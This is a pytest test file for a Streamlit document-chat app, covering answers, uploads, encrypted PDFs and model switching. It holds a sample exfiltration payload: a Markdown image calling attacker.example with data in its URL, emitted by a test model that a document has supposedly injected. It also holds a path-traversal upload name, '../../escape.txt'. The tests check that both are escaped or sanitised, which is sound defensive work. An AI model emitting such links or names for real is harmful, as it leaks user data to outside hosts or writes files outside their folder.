"""The Streamlit app through AppTest, with the fake embedder and echo model on temporary stores.

Assertions compare the Markdown the app hands to Streamlit as it is, escapes included: a test that strips them could
not tell escaped model output from a live link. Uploads go to the background worker (ui/jobs.py); a test waits for it
with ``jobs.wait_all_idle`` and reruns the page, as the progress fragment would.
"""

from __future__ import annotations

import logging
import os
import socket
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest
import streamlit as st
from streamlit import config as st_config
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.runtime.uploaded_file_manager import UploadedFile
from streamlit.testing.v1 import AppTest

import rag.service
import ui.library
import ui.uploads
from rag.config import load_settings
from rag.models import EchoChat
from rag.service import RagService
from tests.conftest import raw_chunks
from tests.fixtures_docs import encrypt_pdf, pdf_bytes
from tests.test_model_catalog import write_gguf
from ui import jobs
from ui.text import escape_markdown

APP = str(Path(__file__).resolve().parents[1] / "app.py")
NOTES = "The citation badge colour is teal. Every answer lists its sources.\n\nThe archive is kept in Lisbon.\n"
QUESTION = "What colour is the citation badge?"
LEAK = "![x](http://attacker.example/?q=secret)"


@pytest.fixture
def server_upload_limit():
    """Set the server's ``server.maxUploadSize`` as ``streamlit run --server.maxUploadSize N`` does: the launcher's
    value for the default RAG_MAX_UPLOAD_MB unless a test says otherwise."""
    original = st_config.get_option("server.maxUploadSize")
    st_config.set_option("server.maxUploadSize", 50)
    yield lambda mb: st_config.set_option("server.maxUploadSize", mb)
    st_config.set_option("server.maxUploadSize", original)


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server_upload_limit) -> Path:
    for name in list(os.environ):
        if name.startswith("RAG_"):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)  # no stray .env, and relative defaults land in the temp folder
    monkeypatch.setenv("HOME", str(tmp_path / "home"))  # the model catalog looks at ~/models, not the developer's
    monkeypatch.setenv("RAG_EMBED_MODEL", "fake")
    monkeypatch.setenv("RAG_LLM_MODEL", "fake")
    monkeypatch.setenv("RAG_STORE_DIR", str(tmp_path / "store"))
    monkeypatch.setenv("RAG_DATA_DIR", str(tmp_path / "data"))
    st.cache_resource.clear()  # services are keyed by collection and model: each test gets its own store
    st.cache_data.clear()
    yield tmp_path
    jobs.close_all()
    st.cache_resource.clear()
    st.cache_data.clear()


def service() -> RagService:
    return RagService(load_settings())


def ingest_notes(folder: Path) -> Path:
    path = folder / "notes.txt"
    path.write_text(NOTES, encoding="utf-8")
    report = service().ingestor.ingest_paths([path])
    assert report.results[0].status == "ingested"
    return path


def app() -> AppTest:
    return AppTest.from_file(APP, default_timeout=60).run()


def settle(at: AppTest) -> AppTest:
    """Let the background worker finish, then redraw the page (what the progress fragment triggers)."""
    assert jobs.wait_all_idle(timeout=60)
    return at.run()


def assistant(at: AppTest, n: int = -1):
    return [m for m in at.chat_message if m.name == "assistant"][n]


def markdowns(block) -> list[str]:
    return [e.value for e in block.markdown]


def captions(block) -> list[str]:
    return [e.value for e in block.caption]


def texts(at: AppTest, role: str) -> list[str]:
    return [m.markdown[0].value for m in at.chat_message if m.name == role]


def all_text(at: AppTest) -> str:
    parts = [e.value for kind in ("markdown", "caption", "info", "success", "error", "warning") for e in at.get(kind)]
    labels = [e.label for e in at.expander] + [e.label for e in at.get("text_input")]
    return "\n".join(str(p) for p in parts + labels)


def messages(at: AppTest, level: str) -> list[str]:
    return [e.value for e in getattr(at.sidebar, level)]


def upload(at: AppTest, *files: tuple[str, bytes]) -> AppTest:
    kinds = {".pdf": "application/pdf"}
    values = [(name, data, kinds.get(Path(name).suffix, "text/plain")) for name, data in files]
    return at.sidebar.get("file_uploader")[0].set_value(values).run()


def test_empty_collection_explains_how_to_add_documents(env: Path) -> None:
    at = app()
    assert not at.exception
    assert "no documents yet" in at.info[0].value and "python -m ingest PATH" in at.info[0].value
    assert not at.chat_input  # stopped before the chat
    assert at.sidebar.get("file_uploader")  # ... but the uploader is there


def test_answer_shows_the_quote_first_then_the_labelled_generated_text_then_sources(env: Path) -> None:
    ingest_notes(env)
    at = app()
    assert not at.info
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception
    assert texts(at, "user") == ["What colour is the citation badge?"]
    answer = assistant(at)
    # The quote, verbatim and escaped, comes first; its file under it; then the generated text under its label.
    assert markdowns(answer)[:2] == ["The citation badge colour is teal\\.", "Based on the documents \\[1\\]\\."]
    assert captions(answer)[:3] == ["notes\\.txt", "Generated answer \\(echo\\)", "Sources: \\[1\\] notes\\.txt"]
    # The quoted sentence is highlighted in its source.
    assert ":orange-background[The citation badge colour is teal\\.]" in markdowns(answer)[2]
    assert at.sidebar.get("download_button")  # the export
    at.run()  # a rerun (any widget) replays the history from session state
    assert markdowns(assistant(at))[:2] == markdowns(answer)[:2]
    {b.label: b for b in at.sidebar.button}["New conversation"].click().run()
    assert not at.chat_message


def test_quotes_only_mode_never_asks_the_model(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    model = EchoChat()
    monkeypatch.setattr(rag.service, "load_chat_model", lambda settings: model)
    ingest_notes(env)
    at = app()
    at.sidebar.toggle[0].set_value(True).run()
    at.chat_input[0].set_value(QUESTION).run()
    answer = assistant(at)
    assert markdowns(answer)[0] == "The citation badge colour is teal\\."
    assert not any("Generated answer" in c for c in captions(answer))
    assert model.calls == []


@dataclass
class InterruptedOnce(EchoChat):
    """The first answer is cut short by a rerun mid-stream, as a click elsewhere on the page would."""

    interrupted: bool = False

    def stream_chat(self, messages, *, max_tokens, temperature):
        if not self.interrupted:
            self.interrupted = True
            yield "Based"
            st.rerun()
        yield from super().stream_chat(messages, max_tokens=max_tokens, temperature=temperature)


def test_a_question_cut_short_by_a_rerun_is_answered_by_the_next_run(
    env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    model = InterruptedOnce()
    monkeypatch.setattr(rag.service, "load_chat_model", lambda settings: model)
    ingest_notes(env)
    at = app()
    at.chat_input[0].set_value(QUESTION).run()
    assert model.interrupted
    assert texts(at, "user") == [QUESTION]  # neither lost nor left without its answer
    assert markdowns(assistant(at))[:2] == ["The citation badge colour is teal\\.", "Based on the documents \\[1\\]\\."]
    at.run()
    assert texts(at, "user") == [QUESTION] and len(texts(at, "assistant")) == 1  # answered once, kept once


def test_unrelated_question_abstains(env: Path) -> None:
    ingest_notes(env)
    at = app()
    at.chat_input[0].set_value("Quantum chromodynamics of gluons?").run()
    answer = assistant(at)
    assert markdowns(answer) == ["The documents do not contain an answer to this question\\."]
    assert any("relevant enough" in c for c in captions(answer))
    assert any(c.startswith("Closest passage") and "needed to answer" in c for c in captions(answer)), captions(answer)


def test_no_room_for_sources_keeps_the_quotes_and_says_why(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_N_CTX", "256")  # the prompt around the sources leaves the model no room for one
    monkeypatch.setenv("RAG_MAX_TOKENS", "127")
    ingest_notes(env)
    at = app()
    at.chat_input[0].set_value(QUESTION).run()
    answer = assistant(at)
    assert markdowns(answer)[0] == "The citation badge colour is teal\\."
    assert "RAG\\_N\\_CTX" in markdowns(answer)[1] and "no room" in markdowns(answer)[1]
    assert not any("Generated answer" in c or "relevant enough" in c for c in captions(answer))


@dataclass
class LinkChat(EchoChat):
    """A model talked by a document into writing a Markdown image whose URL carries data."""

    name: str = "Leaky-1B-Instruct.Q4_K_M.gguf"

    def stream_chat(self, messages, *, max_tokens, temperature):
        self.calls.append(messages)
        yield "The badge is teal [1]. "
        yield LEAK


def test_model_output_is_escaped_in_the_chat_and_in_the_export(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rag.service, "load_chat_model", lambda settings: LinkChat())
    exported: list[bytes] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def capture(self, path_or_data, mimetype, kind, filename=None):
        if filename == "docchat-conversation.md":
            exported.append(path_or_data if isinstance(path_or_data, bytes) else path_or_data.encode())
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", capture)
    ingest_notes(env)
    at = app()
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception
    answer = assistant(at)
    assert "Generated answer \\(Leaky\\-1B\\-Instruct\\)" in captions(answer)
    generated = markdowns(answer)[1]
    assert generated == escape_markdown("The badge is teal [1]. " + LEAK)
    assert "![" not in generated and "](" not in generated
    at.run()  # replayed from the history: escaped there too
    assert markdowns(assistant(at))[1] == generated
    assert exported, "the export button got no data"
    export = exported[-1].decode()
    assert escape_markdown(LEAK) in export
    assert LEAK not in export and "](http" not in export
    assert "> The citation badge colour is teal\\." in export  # the quote is kept


def test_unreachable_chroma_server_names_the_setting(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # closed again when the block ends: nothing listens there
    monkeypatch.setenv("RAG_CHROMA_HOST", "127.0.0.1")
    monkeypatch.setenv("RAG_CHROMA_PORT", str(port))
    at = app()
    assert not at.exception
    assert "RAG\\_CHROMA\\_HOST" in at.error[0].value  # escaped: the message can quote a server's text


def test_bad_setting_is_shown_not_raised(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_TOP_K", "0")
    at = app()
    assert not at.exception and "RAG\\_TOP\\_K" in at.error[0].value


def test_sessions_keep_separate_histories(env: Path) -> None:
    ingest_notes(env)
    first, second = app(), app()
    first.chat_input[0].set_value("What colour is the citation badge?").run()
    second.chat_input[0].set_value("Where is the archive kept?").run()
    first.chat_input[0].set_value("Which city holds the archive?").run()
    assert texts(first, "user") == ["What colour is the citation badge?", "Which city holds the archive?"]
    assert texts(second, "user") == ["Where is the archive kept?"]
    assert len(texts(second, "assistant")) == 1


def test_upload_is_queued_saved_safely_ingested_and_duplicates_skipped(
    env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_whole_file(self):  # the app streams uploads to disk; getvalue() would copy the whole file in memory
        raise AssertionError("the app read a whole upload into memory")

    monkeypatch.setattr(UploadedFile, "getvalue", no_whole_file)
    at = upload(app(), ("../../escape.txt", NOTES.encode()))
    assert not at.exception
    at = settle(at)
    assert messages(at, "success") == ["escape\\.txt: ingested, 1 chunk"]
    assert (env / "data" / "uploads" / "escape.txt").read_text() == NOTES
    assert not (env / "escape.txt").exists()
    assert not at.info  # documents now: the chat is shown
    assert at.chat_input

    at = settle(upload(at, ("escape.txt", NOTES.encode())))
    assert messages(at, "info") == ["escape\\.txt: already ingested, skipped"]
    assert not messages(at, "success")  # the previous upload's messages made way

    at = settle(upload(at, ("broken.pdf", b"not a pdf at all")))
    assert "broken\\.pdf" in messages(at, "error")[0]
    assert len(service().store.documents()) == 1
    {b.label: b for b in at.sidebar.button}["Clear messages"].click().run()
    assert not messages(at, "error")


def test_upload_over_the_limit_is_refused_per_file(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_MAX_UPLOAD_MB", "1")
    at = settle(upload(app(), ("big.txt", b"a " * 600_000), ("small.txt", NOTES.encode())))
    errors = messages(at, "error")
    assert len(errors) == 1 and "big\\.txt" in errors[0] and "RAG_MAX_UPLOAD_MB" in errors[0]
    assert messages(at, "success") == ["small\\.txt: ingested, 1 chunk"]
    assert not (env / "data" / "uploads" / "big.txt").exists()


def test_too_many_files_in_one_upload_are_refused_with_a_message(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ui.uploads, "MAX_FILES_PER_UPLOAD", 2)
    files = [(f"n{i}.txt", f"Note {i} is about the {name} festival.".encode()) for i, name in enumerate("abc")]
    at = settle(upload(app(), *files))
    assert "more than the 2 one upload takes" in messages(at, "warning")[0]
    assert sorted(r.file_name for r in service().store.documents().values()) == ["n0.txt", "n1.txt"]


def test_server_upload_limit_must_match_the_setting(env: Path, server_upload_limit) -> None:
    ingest_notes(env)
    server_upload_limit(200)  # Streamlit's default: `streamlit run app.py` without the launcher
    at = app()
    assert any("accepts uploads up to 200 MB" in w and "make run" in w for w in messages(at, "warning"))
    assert at.sidebar.get("file_uploader")[0].proto.max_upload_size_mb == 50
    server_upload_limit(50)  # what `python -m ui.serve` passes for the default RAG_MAX_UPLOAD_MB
    at = app()
    assert not any("accepts uploads" in w for w in messages(at, "warning"))


def test_chat_answers_while_an_upload_ingests_and_cancel_leaves_the_store_unchanged(env: Path) -> None:
    ingest_notes(env)
    before = service()
    chunks_before = sorted(cid for cid, _, _ in raw_chunks(before.store))
    docs_before = before.store.documents()
    at = app()
    worker = jobs.worker_for(load_settings())
    reading = threading.Event()
    release = threading.Event()

    def hold_at_first_page(job, task, event) -> None:  # runs on the worker thread, writer lock held
        if event.kind == "page" and event.page == 1:
            reading.set()
            assert release.wait(60)

    worker.on_event = hold_at_first_page
    pages = [f"Page {i}: the lighthouse keeper logs the tide at dawn." for i in range(1, 4)]
    at = upload(at, ("tides.pdf", pdf_bytes(pages)))
    assert reading.wait(30)
    at.run()  # the progress panel, drawn while the worker is inside the pipeline
    assert [p.text for p in at.sidebar.get("progress")] == [escape_markdown("tides.pdf: reading page 1 of 3")]

    # The chat answers from what is committed while the upload is mid-way (and the store's writer lock is taken).
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception
    assert markdowns(assistant(at))[0] == "The citation badge colour is teal\\."

    cancel = next(b for b in at.sidebar.button if b.label == "Cancel")
    cancel.click().run()
    release.set()
    at = settle(at)
    assert messages(at, "warning")[-1] == "tides\\.pdf: cancelled, nothing of it was stored"
    after = service()
    assert sorted(cid for cid, _, _ in raw_chunks(after.store)) == chunks_before
    assert after.store.documents() == docs_before
    assert after.keyword_index.documents() == before.keyword_index.documents()


def test_encrypted_pdf_asks_for_the_password_and_forgets_it(
    env: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    secret = "s3cret-Pa55"
    data = encrypt_pdf(pdf_bytes(["Intro", "The vault code is kept in the red binder."]), secret, "owner-pw")
    at = settle(upload(app(), ("locked.pdf", data)))
    assert "locked\\.pdf: encrypted PDF; a password is needed" in messages(at, "warning")[0]
    field = at.sidebar.text_input[0]
    assert "locked\\.pdf" in field.label

    field.set_value("wrong-guess")
    submit = next(b for b in at.sidebar.button if b.label == "Open with this password")
    at = settle(submit.click().run())
    assert any("wrong password" in w for w in messages(at, "warning"))

    at.sidebar.text_input[0].set_value(secret)
    at = settle(next(b for b in at.sidebar.button if b.label == "Open with this password").click().run())
    assert any("locked\\.pdf: ingested" in s for s in messages(at, "success"))
    assert [r.file_name for r in service().store.documents().values()] == ["locked.pdf"]
    # Gone once used: not in the session, not in the worker's jobs, not on the page, not in the logs.
    assert not any(secret in repr(at.session_state[k]) for k in at.session_state)
    assert secret not in repr(at.session_state._state._state)  # widget states by id too (private, but thorough)
    assert not any(secret in repr(job) for job in jobs.worker_for(load_settings()).jobs())
    assert secret not in all_text(at)
    assert secret not in caplog.text


def test_library_remove_and_reingest_through_the_worker(env: Path) -> None:
    ingest_notes(env)
    pdf = env / "guide.pdf"
    pdf.write_bytes(pdf_bytes(["Intro page", "The badge colour is teal."]))
    service().ingestor.ingest_paths([pdf])
    at = app()
    assert "Library: 2 documents" in [e.label for e in at.sidebar.expander]
    frame = at.sidebar.dataframe[0].value
    assert list(frame["document"]) == ["guide.pdf", "notes.txt"] and frame["pages"].iloc[0] == 2

    buttons = {b.label: b for b in at.sidebar.button}
    at = settle(buttons["Re-ingest"].click().run())
    assert messages(at, "success") == ["guide\\.pdf: re-ingested, 2 chunks"]

    at.chat_input[0].set_value("What colour is the badge?").run()
    assert any("guide\\.pdf, page 2" in e.label for e in at.expander)
    assert at.get("download_button")  # the page as a one-page PDF

    at = settle({b.label: b for b in at.sidebar.button}["Remove"].click().run())
    assert "guide\\.pdf: removed" in messages(at, "success")[0]
    assert [r.file_name for r in service().store.documents().values()] == ["notes.txt"]
    assert pdf.exists()  # a file ingested from elsewhere is not deleted
    assert "Library: 1 document" in [e.label for e in at.sidebar.expander]


def test_failed_reingest_keeps_the_document_searchable(env: Path) -> None:
    notes = ingest_notes(env)
    at = app()
    notes.write_bytes(b"\x00\x01\x02 binary garbage \xff" * 100)
    at = settle({b.label: b for b in at.sidebar.button}["Re-ingest"].click().run())
    assert "notes\\.txt" in messages(at, "error")[0]
    at.chat_input[0].set_value(QUESTION).run()
    assert markdowns(assistant(at))[0] == "The citation badge colour is teal\\."


def test_removing_an_upload_deletes_the_apps_copy(env: Path) -> None:
    at = settle(upload(app(), ("mine.txt", NOTES.encode())))
    copy = env / "data" / "uploads" / "mine.txt"
    assert copy.exists()
    at = settle({b.label: b for b in at.sidebar.button}["Remove"].click().run())
    assert "mine\\.txt: removed" in messages(at, "success")[0]
    assert not copy.exists()


def test_collections_switch_and_creation_is_bounded(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ingest_notes(env)
    RagService(load_settings(collection="fresh-one"))  # creates it (AppTest cannot type a new selectbox option)
    at = app()
    picker = at.sidebar.selectbox(key="collection_picker")
    assert picker.options == ["documents", "fresh-one"] and picker.proto.accept_new_options
    picker.set_value("fresh-one").run()
    assert not at.exception
    assert "fresh\\-one" in at.info[0].value  # the new, empty collection
    at.sidebar.selectbox(key="collection_picker").set_value("documents").run()
    assert not at.info and at.chat_input

    monkeypatch.setattr(ui.library, "MAX_COLLECTIONS", 2)
    at.run()
    assert not at.sidebar.selectbox(key="collection_picker").proto.accept_new_options


def test_bad_collection_name_is_an_error(env: Path) -> None:
    at = app()
    at.session_state["collection"] = "x"
    at.run()
    assert not at.exception and "RAG\\_COLLECTION" in at.error[0].value


def test_model_switch_lists_local_models_warns_and_switches(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    loaded: list[str] = []

    def fake_model(settings):
        loaded.append(settings.llm_model)
        return EchoChat(name=Path(settings.llm_model).name)

    monkeypatch.setattr(rag.service, "load_chat_model", fake_model)
    monkeypatch.setattr("rag.model_catalog.available_memory_bytes", lambda: 1000)  # nothing fits
    tiny = write_gguf(env / "home" / "models" / "tiny-chat.Q8_0.gguf")
    ingest_notes(env)
    at = app()
    picker = next(s for s in at.sidebar.selectbox if s.label == "Chat model")
    labels = picker.options
    assert labels[0].startswith("SmolLM2-135M-Instruct (packaged")
    assert labels[1] == "fake (RAG_LLM_MODEL)" and picker.value == "fake"  # the configured model, selected
    assert labels[2].startswith("tiny-chat.Q8_0.gguf (224, Q8_0, ")  # from the catalog: parameters, quantisation
    picker.set_value(str(tiny)).run()
    assert any("will not fit" in w for w in messages(at, "warning"))
    assert str(tiny) not in loaded  # not switched yet
    at = {b.label: b for b in at.sidebar.button}["Switch anyway"].click().run()
    assert not at.exception
    at.chat_input[0].set_value(QUESTION).run()
    assert "Generated answer \\(tiny\\-chat\\)" in captions(assistant(at))
    assert str(tiny) in loaded
    other = app()  # the choice holds for the whole process, so a new tab answers with it too
    other.chat_input[0].set_value(QUESTION).run()
    assert "Generated answer \\(tiny\\-chat\\)" in captions(assistant(other))
